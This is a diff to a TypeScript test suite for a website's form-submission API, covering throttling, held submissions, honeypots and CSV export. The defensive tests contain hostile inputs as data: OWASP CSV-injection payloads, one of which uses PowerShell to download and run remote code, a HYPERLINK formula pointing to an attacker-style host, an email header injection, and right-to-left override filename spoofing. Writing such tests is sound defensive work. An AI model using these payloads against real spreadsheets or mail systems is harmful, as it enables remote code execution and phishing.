@@ -1,10 +1,13 @@
 import { and, count, eq } from "drizzle-orm";
 import { describe, expect, it } from "vitest";
 import { createMemoryAttemptStore } from "../src/auth/attempt-store.ts";
-import { domainOptions, submissions } from "../src/db/schema.ts";
+import { domainOptions, submissions, userDomains, users } from "../src/db/schema.ts";
 import { csvCell, exportFileName } from "../src/features/submissions/export-submissions.ts";
-import { notifySubmission } from "../src/features/submissions/notify-submission.ts";
-import { createSubmissionThrottles } from "../src/features/submissions/submission-throttles.ts";
+import { notifySubmission, submissionMail } from "../src/features/submissions/notify-submission.ts";
+import {
+  createSubmissionThrottles,
+  throttledAddress,
+} from "../src/features/submissions/submission-throttles.ts";
 import type { MailMessage } from "../src/mail/mailer.ts";
 import { uniqueWord } from "./content-fixtures.ts";
 import { createUser } from "./fixtures.ts";
@@ -105,8 +108,11 @@ async function setOption(domainId: number, name: string, value: string) {
     .where(and(eq(domainOptions.domain_id, domainId), eq(domainOptions.name, name)));
 }
 
-/** RFC 4180 reader, to check the export round-trips. */
-function parseCsv(text: string): string[][] {
+/**
+ * RFC 4180 reader, to check the export round-trips; `separator` `;` reads the file as Excel does
+ * in most European locales. Like spreadsheets, a quote opens or closes quoting anywhere.
+ */
+function parseCsv(text: string, separator: "," | ";" = ","): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
   let cell = "";
@@ -120,7 +126,7 @@ function parseCsv(text: string): string[][] {
       } else if (c === '"') quoted = false;
       else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === ",") {
+    else if (c === separator) {
       row.push(cell);
       cell = "";
     } else if (c === "\r" && text[i + 1] === "\n") {
@@ -145,7 +151,7 @@ async function exportCsv(query: string, token = superAdmin, host = "localhost") 
 }
 
 describe("POST /api/submissions", () => {
-  it("stores a valid submission of the host's domain and answers 201 with the item", async () => {
+  it("stores a valid submission of the host's domain and answers 201 with what it received", async () => {
     const name = `Jane ${uniqueWord()}`;
     const before = await countOf(CATERING);
     const res = await submit({
@@ -157,9 +163,9 @@ describe("POST /api/submissions", () => {
       fields: { guests: 40, vegan: true, event_date: " 2030-05-01 " },
     });
     expect(res.status).toBe(201);
+    // No id (nor held): see submissionReceiptSchema and the honeypot test.
     expect(res.body).toEqual({
       data: {
-        id: expect.any(Number),
         form: "catering",
         name,
         email: "jane.doe@example.com",
@@ -172,11 +178,11 @@ describe("POST /api/submissions", () => {
     expect(new Date(res.body.data.created_at).toISOString()).toBe(res.body.data.created_at);
     const [row] = await rowsNamed(name);
     expect(row.domain_id).toBe(LOCAL);
-    expect(row.id).toBe(res.body.data.id);
+    expect(row.held).toBe(false);
     expect(await countOf(CATERING)).toBe(before);
 
     const detail = await call(app, "GET", `/api/submissions/${row.id}`, { token: editor });
-    expect(detail.body).toEqual(res.body);
+    expect(detail.body).toEqual({ data: { ...res.body.data, id: row.id, held: false } });
   });
 
   it("takes phone, message and fields as optional", async () => {
@@ -274,6 +280,39 @@ describe("POST /api/submissions", () => {
     expect(await countOf(LOCAL)).toBe(before);
   });
 
+  it("refuses control and invisible formatting characters with 422 naming the field", async () => {
+    const before = await countOf(LOCAL);
+    const message = (label: string) =>
+      `The ${label} may not contain control or invisible formatting characters.`;
+    for (const [body, field, label] of [
+      [valid({ name: "Eve\u202Egnp.exe" }), "name", "name"],
+      [valid({ name: "Eve\u2066x\u2069" }), "name", "name"],
+      [valid({ name: "Ad\u200Bmin" }), "name", "name"],
+      [valid({ name: "Jane\nDoe" }), "name", "name"],
+      [valid({ name: "Jane\u0007" }), "name", "name"],
+      [valid({ name: "Jane\u0085Doe" }), "name", "name"],
+      [valid({ email: "eve\u202E@example.com" }), "email", "email"],
+      [valid({ phone: "555\u200E0100" }), "phone", "phone"],
+      [valid({ message: "Hello \u202Etxt.exe" }), "message", "message"],
+      [valid({ message: "Soft\u00ADhyphen" }), "message", "message"],
+      [valid({ message: "bell\u0007" }), "message", "message"],
+      [valid({ message: "line\u2028separator" }), "message", "message"],
+      [valid({ fields: { event_date: "2030\u202E" } }), "fields.event_date", "event date"],
+      [valid({ fields: { note: "two\nlines" } }), "fields.note", "note"],
+      [valid({ fields: { note: "b\uFEFFom" } }), "fields.note", "note"],
+    ] as const) {
+      const res = await submit(body);
+      expect(res.status, JSON.stringify(body)).toBe(422);
+      expect(res.body.errors[field], JSON.stringify(body)).toEqual([message(label)]);
+    }
+    // A message keeps its line breaks and tabs; letters of every script stay welcome.
+    const name = `Zoë Ødegård 山田 ${uniqueWord()}`;
+    const ok = await submit(valid({ name, message: "Line one\r\nline two\n\tindented" }));
+    expect(ok.status).toBe(201);
+    expect(ok.body.data.message).toBe("Line one\r\nline two\n\tindented");
+    expect(await countOf(LOCAL)).toBe(before + 1);
+  });
+
   it("answers a filled honeypot like a real submission, storing and mailing nothing", async () => {
     const name = `Bot ${uniqueWord()}`;
     const before = await countOf(LOCAL);
@@ -282,7 +321,6 @@ describe("POST /api/submissions", () => {
     expect(bot.status).toBe(201);
     expect(bot.body).toEqual({
       data: {
-        id: expect.any(Number),
         form: "catering",
         name,
         email: "visitor@example.com",
@@ -303,8 +341,15 @@ describe("POST /api/submissions", () => {
     expect(outbox.slice(mailsBefore).some((m) => m.subject.includes(name))).toBe(false);
     expect(await rowsNamed(name)).toHaveLength(0);
     expect(await countOf(LOCAL)).toBe(before + 1);
-    // The bot's id looks like the next real one.
-    expect(bot.body.data.id).toBeLessThanOrEqual(human.body.data.id);
+    // Nothing tells the two apart: the same keys, no id from the table's sequence to compare
+    // (the former answer, max(id) + 1, came back again on the next real submission).
+    expect(Object.keys(bot.body.data).sort()).toEqual(Object.keys(human.body.data).sort());
+    expect(bot.body.data).not.toHaveProperty("id");
+    expect(human.body.data).not.toHaveProperty("id");
+    expect(JSON.stringify(human.body)).not.toContain(
+      String((await rowsNamed(human.body.data.name))[0].id),
+    );
+    expect(bot.headers["content-type"]).toBe(human.headers["content-type"]);
   });
 
   it("throttles 5 submissions per IP per 10 minutes and domain with 429", async () => {
@@ -344,36 +389,166 @@ describe("POST /api/submissions", () => {
 });
 
 describe("per-domain throttling", () => {
-  it("accepts 50 submissions per domain per hour, then answers 429 from any IP", async () => {
+  const ALERT_SUBJECT = "Submissions on localhost are being held for review";
+
+  it("never locks a new visitor out: past 50 an hour submissions are held, one alert goes out", async () => {
     // A fresh app: the domain's hour starts empty.
     const fresh = await createTestApp();
+    const freshDb = fresh.database.db;
+    await createUser(freshDb, { email: "cap-admin@example.com", roleId: 2, domainIds: [LOCAL] });
+    await createUser(freshDb, { email: "cap-editor@example.com", roleId: 3, domainIds: [LOCAL] });
+    const admins = (
+      await freshDb
+        .select({ email: users.email })
+        .from(userDomains)
+        .innerJoin(users, eq(users.id, userDomains.user_id))
+        .where(and(eq(userDomains.domain_id, LOCAL), eq(userDomains.role_id, 2)))
+    ).map((r) => r.email);
+    expect(admins).toContain("cap-admin@example.com");
+
+    // Ten addresses send 5 each: the domain's 50.
+    const flood = `Flood ${uniqueWord()}`;
     for (let i = 0; i < 50; i++) {
-      const res = await submit(valid(), { target: fresh.app, ip: `192.0.2.${Math.floor(i / 5)}` });
+      const ip = `192.0.2.${Math.floor(i / 5)}`;
+      const res = await submit(valid({ name: `${flood} ${i}` }), { target: fresh.app, ip });
       expect(res.status, `submission ${i + 1}`).toBe(201);
+    }
+    // A new visitor is still taken (was: 429 for the rest of the hour), held for review.
+    const name = `Newcomer ${uniqueWord()}`;
+    const newcomer = await submit(valid({ name }), { target: fresh.app, ip: "192.0.2.200" });
+    expect(newcomer.status).toBe(201);
+    expect(newcomer.body.data).toEqual(expect.objectContaining({ name }));
+    expect(newcomer.body.data).not.toHaveProperty("held");
+    const [row] = await freshDb.select().from(submissions).where(eq(submissions.name, name));
+    expect(row.held).toBe(true);
+    // More past the cap: taken and held too, from an IPv6 visitor as well.
+    const later = `Later ${uniqueWord()}`;
+    for (const ip of ["192.0.2.201", "2001:db8:5::1"]) {
+      const res = await submit(valid({ name: `${later} ${ip}` }), { target: fresh.app, ip });
+      expect(res.status, ip).toBe(201);
+    }
+
+    // The per-address limit still answers 429.
+    for (let i = 0; i < 4; i++) {
+      expect((await submit(valid(), { target: fresh.app, ip: "192.0.2.200" })).status).toBe(201);
     }
     const blocked = await submit(valid(), { target: fresh.app, ip: "192.0.2.200" });
     expect(blocked.status).toBe(429);
     expect(blocked.body).toEqual(TOO_MANY);
-    // Another domain has its own hour.
-    const other = await submit(valid(), { target: fresh.app, host: "catering.localhost" });
+
+    // The first 50 were mailed one by one; none of the held ones is. The site admins (not the
+    // editor) got exactly one alert each, for the whole window.
+    await eventually(() =>
+      fresh.outbox.filter((m) => m.subject.includes(flood)).length === 50 ? true : undefined,
+    );
+    const alerts = await eventually(() => {
+      const sent = fresh.outbox.filter((m) => m.subject === ALERT_SUBJECT);
+      return sent.length >= admins.length ? sent : undefined;
+    });
+    await new Promise((r) => setTimeout(r, 100));
+    expect(fresh.outbox.filter((m) => m.subject === ALERT_SUBJECT)).toHaveLength(admins.length);
+    expect(alerts.map((m) => m.to).sort()).toEqual([...admins].sort());
+    expect(alerts.map((m) => m.to)).not.toContain("cap-editor@example.com");
+    expect(alerts[0].from).toBe("no-reply@bayfoodtrucks.example");
+    expect(alerts[0].text).toContain("Held");
+    expect(fresh.outbox.some((m) => m.subject.includes(name) || m.subject.includes(later))).toBe(
+      false,
+    );
+    const [held] = await freshDb.select().from(submissions).where(eq(submissions.name, name));
+    expect(held.notified_at).toBeNull();
+
+    // Staff see them: `held` on each item, and the held filter.
+    const token = (await login(fresh.app, ADMIN)).access_token;
+    const heldList = await call(fresh.app, "GET", "/api/submissions?held=true&limit=100", {
+      token,
+    });
+    expect(heldList.status).toBe(200);
+    expect(heldList.body.data.every((s: { held: boolean }) => s.held)).toBe(true);
+    expect(heldList.body.data.map((s: { name: string }) => s.name)).toContain(name);
+    expect(heldList.body.meta.total).toBe(7);
+    const notHeld = await call(fresh.app, "GET", `/api/submissions?held=false&search=${flood}`, {
+      token,
+    });
+    expect(notHeld.body.meta.total).toBe(50);
+    expect(notHeld.body.data.every((s: { held: boolean }) => !s.held)).toBe(true);
+    const detail = await call(fresh.app, "GET", `/api/submissions/${held.id}`, { token });
+    expect(detail.body.data.held).toBe(true);
+    const bad = await call(fresh.app, "GET", "/api/submissions?held=maybe", { token });
+    expect(bad.status).toBe(422);
+    expect(bad.body.errors).toHaveProperty("held");
+
+    // Another domain has its own hour: mailed as usual, not held.
+    const otherName = `Other ${uniqueWord()}`;
+    const other = await submit(valid({ name: otherName }), {
+      target: fresh.app,
+      host: "catering.localhost",
+    });
     expect(other.status).toBe(201);
+    const [otherRow] = await freshDb
+      .select()
+      .from(submissions)
+      .where(eq(submissions.name, otherName));
+    expect(otherRow.held).toBe(false);
   });
 
-  it("counts stored submissions only against the domain, and checks the IP first", async () => {
-    const throttles = createSubmissionThrottles(createMemoryAttemptStore(), {
-      perIp: { max: 2, windowMs: 60_000 },
-      perDomain: { max: 3, windowMs: 60_000 },
-    });
-    // Bots (not stored) and a blocked IP never use up the domain's quota.
+  it("holds past the domain's cap, alerts once a window, checks the address first (unit)", async () => {
+    let now = 0;
+    const throttles = createSubmissionThrottles(
+      createMemoryAttemptStore(() => now),
+      {
+        perIp: { max: 2, windowMs: 60_000 },
+        perDomain: { max: 3, windowMs: 60_000 },
+      },
+    );
+    const ok = { held: false, alert: false };
+    // Bots (not stored) and a blocked address never use up the domain's quota.
     for (let i = 0; i < 5; i++) {
       await throttles.take(7, "a", { stored: false }).catch(() => undefined);
     }
-    await throttles.take(7, "b", { stored: true });
-    await throttles.take(7, "b", { stored: true });
+    expect(await throttles.take(7, "b", { stored: true })).toEqual(ok);
+    expect(await throttles.take(7, "b", { stored: true })).toEqual(ok);
     await expect(throttles.take(7, "b", { stored: true })).rejects.toMatchObject({ status: 429 });
-    await throttles.take(7, "c", { stored: true });
+    expect(await throttles.take(7, "c", { stored: true })).toEqual(ok);
+    expect(await throttles.take(7, "d", { stored: true })).toEqual({ held: true, alert: true });
+    expect(await throttles.take(7, "e", { stored: true })).toEqual({ held: true, alert: false });
+    expect(await throttles.take(7, "d", { stored: true })).toEqual({ held: true, alert: false });
     await expect(throttles.take(7, "d", { stored: true })).rejects.toMatchObject({ status: 429 });
-    await throttles.take(8, "d", { stored: true });
+    expect(await throttles.take(8, "d", { stored: true })).toEqual(ok);
+    // A new window: taken as usual again, and a new alert when passed again.
+    now += 60_000;
+    for (const ip of ["f", "g", "h"]) {
+      expect(await throttles.take(7, ip, { stored: true })).toEqual(ok);
+    }
+    expect(await throttles.take(7, "i", { stored: true })).toEqual({ held: true, alert: true });
+  });
+
+  it("counts IPv6 addresses per /64 network (unit)", async () => {
+    expect(throttledAddress("2001:db8:0:1::5")).toBe("2001:db8:0:1::/64");
+    expect(throttledAddress("2001:0DB8:0000:0001:ffff:1:2:3")).toBe("2001:db8:0:1::/64");
+    expect(throttledAddress("2001:db8:0:2::5")).toBe("2001:db8:0:2::/64");
+    expect(throttledAddress("::ffff:192.0.2.7")).toBe("192.0.2.7");
+    expect(throttledAddress("192.0.2.7")).toBe("192.0.2.7");
+
+    const throttles = createSubmissionThrottles(createMemoryAttemptStore(), {
+      perIp: { max: 2, windowMs: 60_000 },
+      perDomain: { max: 100, windowMs: 60_000 },
+    });
+    await throttles.take(7, "2001:db8:0:1::1", { stored: true });
+    await throttles.take(7, "2001:db8:0:1:a:b:c:d", { stored: true });
+    await expect(
+      throttles.take(7, "2001:db8:0:1:ffff:ffff:ffff:ffff", { stored: true }),
+    ).rejects.toMatchObject({ status: 429 });
+    // The next /64 is another subscriber.
+    await throttles.take(7, "2001:db8:0:2::1", { stored: true });
+  });
+
+  it("answers 429 to the sixth submission from one IPv6 /64 through the API", async () => {
+    for (let i = 1; i <= 5; i++) {
+      expect((await submit(valid(), { ip: `2001:db8:77:1::${i}` })).status).toBe(201);
+    }
+    const blocked = await submit(valid(), { ip: "2001:db8:77:1:dead:beef:0:1" });
+    expect(blocked.status).toBe(429);
+    expect((await submit(valid(), { ip: "2001:db8:77:2::1" })).status).toBe(201);
   });
 });
 
@@ -401,7 +576,7 @@ describe("notification mail", () => {
       "Event date: 2030-06-01",
       "Guest count: 120",
       "Two trucks for a wedding.\nVegetarian options please.",
-      `submission #${res.body.data.id}`,
+      `submission #${(await rowsNamed(name))[0].id}`,
     ]) {
       expect(mail.text).toContain(line);
     }
@@ -411,13 +586,65 @@ describe("notification mail", () => {
   it("names each form in the subject and keeps it on one line", async () => {
     const word = uniqueWord();
     await submit(valid({ form: "join", name: `Joiner ${word}` }));
-    await submit(valid({ form: "contact", name: `Contact\r\nBcc: evil@example.com ${word}` }));
+    await submit(valid({ form: "contact", name: `Contact ${word}` }));
     const join = await eventually(() => outbox.find((m) => m.subject.includes(`Joiner ${word}`)));
     expect(join.subject).toBe(`New join request: Joiner ${word}`);
     const contact = await eventually(() =>
       outbox.find((m) => m.subject.startsWith("New contact message") && m.subject.includes(word)),
     );
-    expect(contact.subject).toBe(`New contact message: Contact Bcc: evil@example.com ${word}`);
+    expect(contact.subject).toBe(`New contact message: Contact ${word}`);
+    // A name with a line break is refused now; one stored before still mails on one line.
+    const injected = `Contact\r\nBcc: evil@example.com ${word}`;
+    expect((await submit(valid({ form: "contact", name: injected }))).status).toBe(422);
+    const old = await insertSubmission(LOCAL, { name: injected });
+    const mail = submissionMail(
+      { ...old, form: "contact", created_at: old.created_at.toISOString() },
+      "localhost",
+    );
+    expect(mail.subject).toBe(`New contact message: Contact Bcc: evil@example.com ${word}`);
+    expect(mail.text).toContain(`Name: Contact Bcc: evil@example.com ${word}\n`);
+  });
+
+  it("leaves control and invisible characters of stored rows out of the mail", () => {
+    const mail = submissionMail(
+      {
+        id: 9,
+        form: "contact",
+        name: "Eve\u202Egnp.exe\u200B",
+        email: "eve@example.com\u2066",
+        phone: "555\u200E",
+        message: "Hi\u202E there\r\n\tsecond line\u0007",
+        fields: { note: "a\u2067b\nc" },
+        held: false,
+        created_at: "2030-01-01T00:00:00.000Z",
+      },
+      "localhost",
+    );
+    expect(mail.subject).toBe("New contact message: Evegnp.exe");
+    expect(mail.text).toContain("Name: Evegnp.exe\n");
+    expect(mail.text).toContain("Email: eve@example.com\n");
+    expect(mail.text).toContain("Phone: 555\n");
+    expect(mail.text).toContain("Note: ab c\n");
+    expect(mail.text).toContain("Hi there\r\n\tsecond line\n");
+    expect(`${mail.subject}${mail.text}`).not.toMatch(/\p{Cf}/u);
+    expect(mail.text.includes("\u0007")).toBe(false);
+  });
+
+  it("is never sent for a held submission", async () => {
+    const row = await insertSubmission(LOCAL, { held: true });
+    const sent: MailMessage[] = [];
+    const notified = await notifySubmission(
+      db,
+      { id: LOCAL, host: "localhost" },
+      {
+        submission: { ...row, form: "contact", created_at: row.created_at.toISOString() },
+        mailer: { send: async (m) => void sent.push(m) },
+        defaultFrom: DEFAULT_FROM,
+        log: { info: () => {}, error: () => {} } as never,
+      },
+    );
+    expect(notified).toBe(false);
+    expect(sent).toHaveLength(0);
   });
 
   it("is sent from MAIL_FROM when the domain has no outgoing_email", async () => {
@@ -545,6 +772,7 @@ describe("GET /api/submissions", () => {
       phone: "",
       message: "We have three trucks.",
       fields: {},
+      held: false,
       created_at: "2020-03-01T10:00:00.000Z",
     });
 
@@ -637,6 +865,7 @@ describe("GET /api/submissions/:id and DELETE /api/submissions/:id", () => {
         phone: "555",
         message: "",
         fields: { guests: "12" },
+        held: false,
         created_at: row.created_at.toISOString(),
       },
     });
@@ -703,7 +932,9 @@ describe("GET /api/submissions/export", () => {
       `attachment; filename="submissions-localhost-${today}.csv"`,
     );
     const text = res.body;
-    expect(text.startsWith("id,form,name,email,phone,message,fields,created_at\r\n")).toBe(true);
+    expect(text.startsWith("id,form,name,email,phone,message,fields,created_at,held\r\n")).toBe(
+      true,
+    );
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example"",""click"")"`);
     expect(text).toContain(`"Smith, ""Jo"""`);
 
@@ -717,6 +948,7 @@ describe("GET /api/submissions/export", () => {
       "message",
       "fields",
       "created_at",
+      "held",
     ]);
     expect(rows.slice(1)).toEqual([
       [
@@ -728,6 +960,7 @@ describe("GET /api/submissions/export", () => {
         `'-minus ${word}`,
         "{}",
         "2021-06-03T08:00:00.000Z",
+        "no",
       ],
       [
         String(quoting.id),
@@ -738,6 +971,7 @@ describe("GET /api/submissions/export", () => {
         `Line one\r\nline two, ${word}`,
         expect.stringMatching(/^\{.*\}$/),
         "2021-06-02T08:00:00.000Z",
+        "no",
       ],
       [
         String(formula.id),
@@ -748,6 +982,7 @@ describe("GET /api/submissions/export", () => {
         `'@SUM(A1:A2) ${word}`,
         "{}",
         "2021-06-01T08:00:00.000Z",
+        "no",
       ],
     ]);
     expect(JSON.parse(rows[2][6])).toEqual({ guests: "30", note: "-2 tables" });
@@ -762,7 +997,7 @@ describe("GET /api/submissions/export", () => {
     );
     expect(dated.slice(1).map((r) => r[0])).toEqual([String(quoting.id), String(formula.id)]);
     const nothing = await exportCsv(`?search=${uniqueWord()}`);
-    expect(nothing.body).toBe("id,form,name,email,phone,message,fields,created_at\r\n");
+    expect(nothing.body).toBe("id,form,name,email,phone,message,fields,created_at,held\r\n");
 
     // Another domain's export is its own, named after its host.
     const theirs = await exportCsv(`?search=${word}`, siteAdminB, "catering.localhost");
@@ -783,19 +1018,127 @@ describe("GET /api/submissions/export", () => {
   it("neutralizes formulas and quotes cells (unit)", () => {
     expect(csvCell("plain")).toBe("plain");
     expect(csvCell(12)).toBe("12");
-    expect(csvCell("=1+1")).toBe("'=1+1");
-    expect(csvCell("+1")).toBe("'+1");
-    expect(csvCell("-1")).toBe("'-1");
-    expect(csvCell("@x")).toBe("'@x");
-    expect(csvCell("\tx")).toBe("'\tx");
+    expect(csvCell("=1+1")).toBe(`"'=1+1"`);
+    expect(csvCell("+1")).toBe(`"'+1"`);
+    expect(csvCell("-1")).toBe(`"'-1"`);
+    expect(csvCell("@x")).toBe(`"'@x"`);
+    expect(csvCell("\tx")).toBe(`"'\tx"`);
     expect(csvCell("\rx")).toBe(`"'\rx"`);
+    expect(csvCell(" =1")).toBe(`"' =1"`);
+    expect(csvCell("\u00A0\n=1")).toBe(`"'\u00A0\n=1"`);
+    expect(csvCell("\u200B=1")).toBe(`"'=1"`);
+    expect(csvCell("\uFF1D1+1")).toBe(`"'\uFF1D1+1"`);
+    expect(csvCell("x;=1+1;y")).toBe(`"x;=1+1;y"`);
+    expect(csvCell("a;b")).toBe(`"a;b"`);
     expect(csvCell('a"b')).toBe('"a""b"');
     expect(csvCell("a,b")).toBe('"a,b"');
     expect(csvCell("a\nb")).toBe('"a\nb"');
+    expect(csvCell("Eve\u202Egnp.exe")).toBe("Evegnp.exe");
     expect(csvCell("")).toBe("");
     expect(exportFileName("catering.localhost", new Date("2024-02-03T23:00:00Z"))).toBe(
       "submissions-catering.localhost-2024-02-03.csv",
     );
+  });
+
+  it("is safe with OWASP CSV-injection payloads in comma and semicolon locales", async () => {
+    const word = uniqueWord("owasp");
+    const payloads = [
+      "=1+1",
+      "+1",
+      "-1+1",
+      "@SUM(1)",
+      '=HYPERLINK("http://x","y")',
+      "=HYPERLINK(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&CHAR(58)&CHAR(47)&CHAR(47)&CHAR(120),CHAR(121))",
+      "=cmd|' /C calc'!A0",
+      "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
+      "@SUM(1+9)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "x;=1+1;y",
+      "x;+1;y",
+      "x; @SUM(1);y",
+      "x,=1+1,y",
+      "x;HYPERLINK(CHAR(104)&CHAR(116),CHAR(121));y",
+      "a;\t=1",
+      "\t=1",
+      " =1",
+      "\r=1",
+      "\n=1",
+      "\u00A0=1",
+      "\u200B=1+1",
+      "\u202E=1+1",
+      "\uFF1D1+1",
+      '"=1+1"',
+      '";=1+1;"',
+      "x\r\n=1+1",
+      "x\n;=1+1",
+    ];
+    const rows = [];
+    for (const [i, payload] of payloads.entries()) {
+      rows.push(
+        await insertSubmission(LOCAL, {
+          form: "contact",
+          name: payload,
+          email: `p${i}.${word}@example.com`,
+          phone: payload,
+          message: `${payload} ${word}`,
+          fields: { note: payload, [`k${i}`]: payload },
+        }),
+      );
+    }
+    const res = await exportCsv(`?search=${word}`);
+    expect(res.statusCode).toBe(200);
+    const formula =
+      /^[\s\u200B-\u200F\u202A-\u202E\u2066-\u2069\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;
+    for (const separator of [",", ";"] as const) {
+      const parsed = parseCsv(res.body, separator);
+      for (const row of parsed) {
+        for (const cell of row) {
+          expect(formula.test(cell), `${separator} ${JSON.stringify(cell)}`).toBe(false);
+          expect(/^[\t\r]/.test(cell), `${separator} ${JSON.stringify(cell)}`).toBe(false);
+        }
+      }
+      // A `;` spreadsheet never splits a line of this comma file (every `;` is inside quotes).
+      if (separator === ";") {
+        expect(parsed.every((row) => row.length === 1)).toBe(true);
+      }
+    }
+    // With commas the payloads come back whole, behind an apostrophe when formula-like.
+    const parsed = parseCsv(res.body);
+    expect(parsed).toHaveLength(payloads.length + 1);
+    for (const row of parsed.slice(1)) {
+      expect(row).toHaveLength(9);
+      const payload = payloads[rows.findIndex((r) => String(r.id) === row[0])];
+      const visible = payload.replace(/[\u200B\u202E]/gu, "");
+      const expected = /^(?:[\t\r]|\s*[=+\-@\uFF1D])/u.test(visible) ? `'${visible}` : visible;
+      expect(row[2], JSON.stringify(payload)).toBe(expected);
+      expect(row[4], JSON.stringify(payload)).toBe(expected);
+      expect(JSON.parse(row[6]).note, JSON.stringify(payload)).toBe(visible);
+    }
+  });
+
+  it("marks held submissions and leaves invisible characters out", async () => {
+    const word = uniqueWord("heldcsv");
+    const held = await insertSubmission(LOCAL, {
+      name: "Eve\u202Egnp.exe",
+      message: `Held \u2066${word}`,
+      held: true,
+    });
+    const rows = parseCsv((await exportCsv(`?search=${word}`)).body);
+    expect(rows.slice(1)).toEqual([
+      [
+        String(held.id),
+        "contact",
+        "Evegnp.exe",
+        "row@example.com",
+        "",
+        `Held ${word}`,
+        "{}",
+        held.created_at.toISOString(),
+        "yes",
+      ],
+    ]);
+    const notHeld = parseCsv((await exportCsv(`?search=${word}&held=false`)).body);
+    expect(notHeld).toHaveLength(1);
   });
 });
 
